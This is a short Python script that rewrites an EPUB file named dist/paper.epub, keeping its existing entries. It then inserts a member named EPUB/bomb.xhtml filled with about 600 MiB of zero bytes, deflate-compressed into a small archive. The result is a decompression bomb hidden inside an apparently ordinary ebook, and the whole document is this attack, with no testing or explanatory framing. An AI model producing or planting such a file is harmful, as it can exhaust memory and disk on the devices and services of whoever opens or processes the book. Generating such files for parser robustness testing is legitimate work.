import zipfile
from pathlib import Path

book = Path("dist/paper.epub")
with zipfile.ZipFile(book) as archive:
    held = {entry: archive.read(entry) for entry in archive.infolist()}
with zipfile.ZipFile(book, "w", zipfile.ZIP_DEFLATED) as archive:
    for entry, data in held.items():
        archive.writestr(entry, data)
    with archive.open("EPUB/bomb.xhtml", "w") as bomb:
        for _ in range(600):
            bomb.write(bytes(2**20))
